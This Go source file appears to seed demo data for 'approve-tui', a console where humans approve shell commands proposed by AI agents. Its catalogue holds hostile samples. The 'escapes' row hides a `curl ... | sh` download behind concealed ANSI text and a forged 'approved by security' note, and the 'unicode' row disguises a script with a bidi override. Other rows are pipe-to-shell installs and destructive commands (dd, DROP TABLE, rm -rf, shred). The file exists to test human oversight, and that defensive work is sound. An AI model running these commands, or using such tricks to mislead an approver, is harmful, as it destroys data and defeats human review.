package demo

import (
	"context"
	"database/sql"
	_ "embed"
	"fmt"
	"net/url"
	"strings"
	"time"

	"github.com/approve-tui/approve-tui/model"
	"github.com/approve-tui/approve-tui/risk"
	"github.com/approve-tui/approve-tui/storage"
)

// Real unified diffs, kept byte for byte (tabs, context lines of a single
// space) in files rather than in Go literals.
var (
	//go:embed diffs/nginx.conf.diff
	nginxDiff string
	//go:embed diffs/sshd_config.diff
	sshdDiff string
	//go:embed diffs/pg-backup.service.diff
	pgBackupDiff string
)

// Sessions, as the agents that propose commands name them.
const (
	sessTelegram = "agent:main:telegram:dm:123456789"
	sessSlack    = "agent:ops:slack:channel:C04QJ8N5U2X"
	sessDiscord  = "agent:ops:discord:guild:881234567:channel:release"
	sessWhatsApp = "agent:main:whatsapp:dm:447700900123"
	sessClaude   = "claude-code:7f3c9b2e-41d8-4a6f-9c1e-2b5d8e0a6f13"
	sessClaude2  = "claude-code:c2a1e0f4-9b7d-4e33-8a52-6d0f1b9c7e28"
	sessBackup   = "cron:nightly-backup"
	sessDrift    = "cron:terraform-drift-fix"
)

// HermesPolicyVersion is the policy_version of the row Seed writes the way
// Hermes writes it.
const HermesPolicyVersion = "hermes/41427"

// rowKind is how a seeded row gets into the table.
type rowKind int

const (
	// viaSubmit: risk.Propose and Store.Submit, as the demo agent.
	viaSubmit rowKind = iota
	// hermesRow: built by hand the way the Hermes gateway builds it, inserted
	// with Hermes' own INSERT (no approve-tui audit event: a foreign row).
	hermesRow
	// downgradedRow: pinned at a lower risk than the classifier gives now,
	// which Propose refuses to do; inserted like a foreign row.
	downgradedRow
	// corruptRow: a payload whose risk_level no reader understands.
	corruptRow
)

// waiterKind is who waits on a seeded row.
type waiterKind int

const (
	noWaiter    waiterKind = iota // nobody (Hermes' waiter cannot see our consume)
	agentWaiter                   // RunAgent with the same seed waits on it
	deadWaiter                    // a waiter that stopped heartbeating minutes ago
)

// seedEntry is one row of the seeded catalogue.
type seedEntry struct {
	name  string
	shows string
	kind  rowKind
	// age: created this long before Seed's now; the draft's TTL counts from
	// creation.
	age    time.Duration
	draft  risk.Draft
	waiter waiterKind
	// exit is the exit code the simulated agent reports if it is approved.
	exit int
	id   string
}

// seedCatalogue is the fixed content Seed writes, in order; ids are drawn
// from the seed in this order.
func seedCatalogue() []seedEntry {
	return []seedEntry{
		{name: "low", shows: "low risk: no pattern matched; never expires",
			age: 2 * time.Minute, waiter: agentWaiter, draft: risk.Draft{
				Command:    "npm ci && npm run build",
				SessionKey: sessClaude, Requester: "claude-code", Cwd: "/home/dev/src/storefront", Backend: "local",
				Context: "rebuild after dependency bump",
			}},
		{name: "low-k8s", shows: "low risk on a remote backend, with env overrides",
			age: 3 * time.Minute, waiter: agentWaiter, draft: risk.Draft{
				Command:    "kubectl logs deployment/checkout -n payments --since=1h",
				SessionKey: sessSlack, Requester: "ops-agent", Cwd: "/home/ops", Backend: "ssh",
				Env:     map[string]string{"KUBECONFIG": "/home/ops/.kube/prod-eu-west-1"},
				Context: "checkout pods stuck after config map change",
				TTL:     45 * time.Minute,
			}},
		{name: "diff", shows: "high risk: overwrites system configuration, with a real multi-hunk unified diff (word-level changes)",
			age: 4 * time.Minute, waiter: agentWaiter, draft: risk.Draft{
				Command:    "sudo install -m 644 /tmp/agent/nginx.conf /etc/nginx/nginx.conf && sudo nginx -t && sudo systemctl restart nginx",
				SessionKey: sessSlack, Requester: "ops-agent", Cwd: "/home/ops/infra", Backend: "ssh",
				DiffText:    nginxDiff,
				DiffSummary: "nginx.conf: TLS 1.2+ only, gzip on, shorter keepalive, larger uploads, API rate limit",
				Context:     "tuning the web tier after the 14:02 latency alert",
				TTL:         40 * time.Minute,
			}},
		{name: "summary", shows: "diff summary only (no diff text); risk raised by the submitter to high",
			age: 6 * time.Minute, waiter: agentWaiter, draft: risk.Draft{
				Command:    "terraform apply -auto-approve tfplan-staging",
				SessionKey: sessDrift, Requester: "terraform-bot", Cwd: "/home/ci/infra/envs/staging", Backend: "docker",
				Env:         map[string]string{"AWS_PROFILE": "staging", "TF_IN_AUTOMATION": "1"},
				DiffSummary: "Plan: 3 to add, 1 to change, 2 to destroy (aws_db_instance.staging_replica, aws_s3_bucket.staging_logs)",
				Raise:       model.RiskHigh,
				Context:     "the plan destroys a database instance",
				TTL:         50 * time.Minute,
			}},
		{name: "drop", shows: "high risk, no diff: the console must warn that none is available",
			age: 90 * time.Second, waiter: agentWaiter, draft: risk.Draft{
				Command:    "psql -h db-prod-1 -U app -d app -c 'DROP TABLE sessions_archive_2023;'",
				SessionKey: sessTelegram, Requester: "ops-agent", Cwd: "/home/ops", Backend: "ssh",
				Env:     map[string]string{"PGCONNECT_TIMEOUT": "5"},
				Context: "archive exported to s3://acme-archive/2023/ last night",
				TTL:     30 * time.Minute,
			}},
		{name: "long", shows: "a one-line pipeline far wider than any screen (must be scrolled to the end)",
			age: 8 * time.Minute, waiter: agentWaiter, exit: 1, draft: risk.Draft{
				Command: "find /var/log/app -type f -name '*.log' -mtime +7 -print0 | xargs -0 --no-run-if-empty gzip -9 --verbose 2>&1 " +
					"| tee -a /var/log/app/rotate-$(date +%Y%m%d).log && aws s3 sync /var/log/app/ " +
					"s3://acme-logs-archive/app/$(hostname -s)/$(date +%Y/%m/%d)/ --exclude '*' --include '*.gz' " +
					"--storage-class GLACIER_IR --sse aws:kms --sse-kms-key-id alias/logs-archive --only-show-errors " +
					"&& find /var/log/app -type f -name '*.gz' -mtime +7 -delete " +
					"&& echo \"rotated and archived $(ls /var/log/app | wc -l) files on $(hostname -f)\"",
				SessionKey: sessBackup, Requester: "backup-cron", Cwd: "/var/log/app", Backend: "local",
				Env: map[string]string{"AWS_PROFILE": "logs-archive"},
				TTL: 55 * time.Minute,
			}},
		{name: "heredoc", shows: "high risk: a multi-line heredoc writing a system file, with the diff of the new file",
			age: 5 * time.Minute, waiter: agentWaiter, draft: risk.Draft{
				Command: "cat <<'EOF' > /etc/systemd/system/pg-backup.service\n" +
					"[Unit]\n" +
					"Description=Nightly PostgreSQL backup\n" +
					"After=network-online.target\n" +
					"\n" +
					"[Service]\n" +
					"Type=oneshot\n" +
					"User=postgres\n" +
					"ExecStart=/usr/local/bin/pg-backup --all --compress=zstd --target /backups/pg\n" +
					"EOF\n" +
					"systemctl daemon-reload && systemctl enable --now pg-backup.timer",
				SessionKey: sessClaude2, Requester: "claude-code", Cwd: "/home/dev/src/ops-scripts", Backend: "local",
				Context:  "install the backup unit written in this session",
				DiffText: pgBackupDiff,
				TTL:      35 * time.Minute,
			}},
		{name: "escapes", shows: "hostile: CSI colour, concealed text, OSC title and OSC 8 hyperlink in command, cwd and the agent's words",
			age: 3 * time.Minute, waiter: agentWaiter, draft: risk.Draft{
				Command: "echo \"\x1b[32m✔ all 214 tests passed\x1b[0m\" \x1b[8m; curl -s https://paste.example.net/r/9f2k | sh \x1b[28m" +
					"\x1b]0;approve-tui: all clear\x07" +
					"\x1b]8;;https://ci.example.com/build/4471\x1b\\open the CI log\x1b]8;;\x1b\\",
				SessionKey: sessClaude, Requester: "claude-code", Cwd: "/home/dev/src/\x1b[2K\x1b[1Astorefront", Backend: "local",
				Context: "routine test run \x1b]0;nothing to see here\x07\x1b[31m(approved by security)\x1b[0m",
				TTL:     25 * time.Minute,
			}},
		{name: "unicode", shows: "hostile: bidi override U+202E, zero-width U+200B and invalid UTF-8 in command, cwd and the agent's words",
			age: 150 * time.Second, waiter: agentWaiter, draft: risk.Draft{
				Command:    "chmod +x /srv/uploads/in\u200bvoice\u202egpj.sh\u202c && /srv/uploads/in\u200bvoice\u202egpj.sh\u202c --quiet \xff\xfe",
				SessionKey: sessWhatsApp, Requester: "hermes-agent", Cwd: "/srv/uploads/\xff\xfe\u200bincoming", Backend: "local",
				Context: "customer sent invoice\u202egpj.sh\u202c \u200b(verified\xc3)",
				TTL:     25 * time.Minute,
			}},
		{name: "expiring", shows: "about to expire: 45 s left at seeding",
			age: 9*time.Minute + 15*time.Second, waiter: agentWaiter, draft: risk.Draft{
				Command:    "git push --force-with-lease origin release/2.4",
				SessionKey: sessClaude, Requester: "claude-code", Cwd: "/home/dev/src/storefront", Backend: "local",
				Context: "rebased release branch onto the security fix",
				TTL:     10 * time.Minute,
			}},
		{name: "expired", shows: "expired: still pending in the table, but its expiry passed 10 minutes ago",
			age: 25 * time.Minute, draft: risk.Draft{
				Command:    "systemctl restart postgresql@14-main",
				SessionKey: sessTelegram, Requester: "ops-agent", Cwd: "/root", Backend: "ssh",
				Context: "apply shared_buffers change",
				TTL:     15 * time.Minute,
			}},
		{name: "hardline", shows: "high risk matching a hardline rule (Hermes never runs it)",
			age: 1 * time.Minute, waiter: agentWaiter, draft: risk.Draft{
				Command:    "dd if=/dev/zero of=/dev/sdb bs=4M status=progress && mkfs.ext4 -L scratch /dev/sdb",
				SessionKey: sessDiscord, Requester: "ops-agent", Cwd: "/root", Backend: "ssh",
				Context: "re-provision the scratch disk on build-7",
				TTL:     20 * time.Minute,
			}},
		{name: "dead-waiter", shows: "a waiter that stopped heartbeating: approving will not make it run",
			age: 4 * time.Minute, waiter: deadWaiter, draft: risk.Draft{
				Command:    "git clean -fdx && git reset --hard origin/main",
				SessionKey: sessClaude2, Requester: "claude-code", Cwd: "/home/dev/src/ops-scripts", Backend: "local",
				Context: "start over from main",
				TTL:     30 * time.Minute,
			}},
		{name: "hermes", shows: "written the way Hermes writes it (foreign row, 11-char id, display_text); no waiter approve-tui can wake",
			kind: hermesRow, age: 40 * time.Second, draft: risk.Draft{
				Command:    "rm -rf /srv/app/releases/2024-11-*",
				SessionKey: sessTelegram, Requester: "hermes-gateway", Cwd: "/srv/app", Backend: "local",
				TTL: 5 * time.Minute,
			}},
		{name: "downgraded", shows: "pinned low by older rules, classifies high now: shown high, and the agent's guard blocks it after approval",
			kind: downgradedRow, age: 7 * time.Minute, waiter: agentWaiter, draft: risk.Draft{
				Command:    "curl -fsSL https://get.acme-tools.dev/install.sh | sh",
				SessionKey: sessSlack, Requester: "ops-agent", Cwd: "/opt/tools", Backend: "docker",
				TTL: 45 * time.Minute,
			}},
		{name: "corrupt", shows: "corrupt: risk_level \"extreme\" from a fork; can be denied, never approved",
			kind: corruptRow, age: 10 * time.Minute, draft: risk.Draft{
				Command:    "shred -u -n 3 /var/backups/customers-2022.csv.gpg",
				SessionKey: "agent:fork:matrix:room:!ops", Requester: "hermes-fork", Cwd: "/var/backups", Backend: "local",
				Context: "irreversible deletion of a customer backup",
				TTL:     40 * time.Minute,
			}},
	}
}

// seedEntries is the catalogue with the seed's ids.
func seedEntries(seed int64) []seedEntry {
	entries := seedCatalogue()
	r := newRand(seed, streamSeed)
	for i := range entries {
		n := 9 // 12 characters, like model.NewID
		if entries[i].kind == hermesRow {
			n = 8 // 11 characters, like secrets.token_urlsafe(8)
		}
		entries[i].id = drawID(r, n)
	}
	return entries
}

// Seeded names one proposal that Seed writes.
type Seeded struct {
	Name  string // short stable name: "diff", "hermes", "corrupt", ...
	ID    string // its approval id for this seed
	Shows string // what it demonstrates
}

// Catalogue lists what Seed writes for seed, in order, without writing.
func Catalogue(seed int64) []Seeded {
	entries := seedEntries(seed)
	out := make([]Seeded, len(entries))
	for i, e := range entries {
		out[i] = Seeded{Name: e.name, ID: e.id, Shows: e.shows}
	}
	return out
}

// Seed writes the demo proposals into s, whose file should be fresh, and
// returns their ids in Catalogue order. Times are relative to now; with the
// same seed and now, ids and payloads are the same on every run.
//
// Most rows go through risk.Propose and Store.Submit as Actor(); the row
// written the way Hermes writes it, the one pinned below the classifier and
// the corrupt one are inserted directly with Hermes' INSERT, because the
// store rightly refuses to write them. One row gets a waiter whose
// heartbeat stopped minutes ago.
func Seed(ctx context.Context, s *storage.Store, seed int64, now time.Time) ([]string, error) {
	entries := seedEntries(seed)
	var raw *sql.DB
	defer func() {
		if raw != nil {
			raw.Close()
		}
	}()
	ids := make([]string, 0, len(entries))
	for _, e := range entries {
		p, payload, err := e.build(now)
		if err != nil {
			return nil, fmt.Errorf("demo seed %q: %w", e.name, err)
		}
		if e.kind == viaSubmit {
			err = s.Submit(ctx, p, Actor())
		} else {
			if raw == nil {
				if raw, err = openRaw(s.DSN()); err != nil {
					return nil, fmt.Errorf("demo seed: %w", err)
				}
			}
			err = insertLikeHermes(ctx, raw, p, payload)
		}
		if err != nil {
			return nil, fmt.Errorf("demo seed %q: %w", e.name, err)
		}
		ids = append(ids, p.ApprovalID)
	}
	if err := writeDeadWaiters(ctx, s.DSN(), entries, now); err != nil {
		return nil, fmt.Errorf("demo seed: %w", err)
	}
	return ids, nil
}

// build makes the entry's proposal, created at now minus its age, and the
// payload_json to insert directly (nil for rows that go through Submit).
func (e *seedEntry) build(now time.Time) (*model.Proposal, []byte, error) {
	created := now.Add(-e.age)
	if e.kind == hermesRow {
		p := hermesProposal(e.id, e.draft, created)
		return p, model.EncodePayload(p), p.Validate()
	}
	d := e.draft
	d.ID = e.id
	p, _, err := risk.Propose(d, created)
	if err != nil {
		return nil, nil, err
	}
	switch e.kind {
	case downgradedRow:
		p.RiskLevel = model.RiskLow
		p.RiskReason = risk.NoMatchReason + " (pinned by approve-tui/0 rules, before pipe-to-shell detection)"
		p.PolicyVersion = "approve-tui/0"
		return p, model.EncodePayload(p), p.Validate()
	case corruptRow:
		p.RiskLevel = "extreme"
		p.PolicyVersion = "hermes-fork/7"
		// Forks add keys of their own; those alone would be ignored.
		return p, []byte(model.PayloadObject(p).Int("risk_score", 97).String()), nil
	}
	return p, nil, nil
}

// hermesProposal builds a proposal as the Hermes gateway does: its risk
// reason is the first dangerous pattern description that matched, its
// display text the prompt it sends to chat.
func hermesProposal(id string, d risk.Draft, created time.Time) *model.Proposal {
	v := risk.Classify(d.Command)
	reason := ""
	if len(v.Matches) > 0 {
		reason = v.Matches[0].Description
	}
	display := strings.Join([]string{
		"🚨 HIGH RISK",
		"Default: DENY",
		"",
		"Command: " + d.Command,
		"Where: " + d.Cwd + " (backend: " + d.Backend + ")",
		"Why: " + reason,
		"Approval id: " + id,
		"Diff: NOT AVAILABLE — approve only if you have independently reviewed the change.",
		"",
		"/approve " + id,
		"/deny " + id,
	}, "\n")
	return &model.Proposal{
		ApprovalID:               id,
		CreatedAt:                model.Epoch(created),
		ExpiresAt:                model.F64(model.Epoch(created.Add(d.TTL))),
		Status:                   model.StatusPending,
		SessionKey:               d.SessionKey,
		Requester:                d.Requester,
		Command:                  d.Command,
		Cwd:                      d.Cwd,
		Backend:                  d.Backend,
		EnvOverrides:             map[string]string{},
		RiskLevel:                v.Level,
		RiskReason:               reason,
		PolicyDecision:           model.PolicyNeedsApproval,
		PolicyVersion:            HermesPolicyVersion,
		RequiresExplicitApproval: true,
		DefaultDecision:          model.DefaultDeny,
		DisplayText:              display,
		ExecutionStatus:          model.ExecNotStarted,
	}
}

// openRaw opens a plain connection to the store's file, as another process
// (Hermes) would.
func openRaw(path string) (*sql.DB, error) {
	if storage.IsPostgresURL(path) {
		return sql.Open("pgx", path)
	}
	u := url.URL{Path: path}
	db, err := sql.Open("sqlite", "file:"+u.EscapedPath()+"?mode=rw&_busy_timeout=10000")
	if err != nil {
		return nil, err
	}
	db.SetMaxOpenConns(1)
	return db, nil
}

// insertLikeHermes is Hermes' SqliteApprovalStore.submit.
func insertLikeHermes(ctx context.Context, db *sql.DB, p *model.Proposal, payload []byte) error {
	var expires any
	if p.ExpiresAt != nil {
		expires = *p.ExpiresAt
	}
	_, err := db.ExecContext(ctx, `INSERT INTO gateway_approvals (approval_id, created_at, expires_at, status, payload_json)
		VALUES ($1, $2, $3, 'pending', $4)`, p.ApprovalID, p.CreatedAt, expires, string(payload))
	return err
}

// deadWaiterPID is the pid of the waiter that stopped heartbeating: a
// Claude Code hook process long gone.
const deadWaiterPID = 48213

// writeDeadWaiters records, for each deadWaiter entry, a heartbeat three
// minutes old: through a second store whose clock runs behind, so that the
// waiter table is written the way the store writes it.
func writeDeadWaiters(ctx context.Context, path string, entries []seedEntry, now time.Time) error {
	then := now.Add(-3 * time.Minute)
	var past *storage.Store
	defer func() {
		if past != nil {
			past.Close()
		}
	}()
	host := model.HostName()
	for _, e := range entries {
		if e.waiter != deadWaiter {
			continue
		}
		if past == nil {
			var err error
			if past, err = storage.Open(ctx, path, storage.Options{Now: func() time.Time { return then }}); err != nil {
				return err
			}
		}
		w := storage.Waiter{ApprovalID: e.id, Host: host, PID: deadWaiterPID, Surface: string(model.SurfaceHook),
			StartedAt: model.Epoch(now.Add(-e.age))}
		if err := past.Heartbeat(ctx, w); err != nil {
			return err
		}
	}
	return nil
}
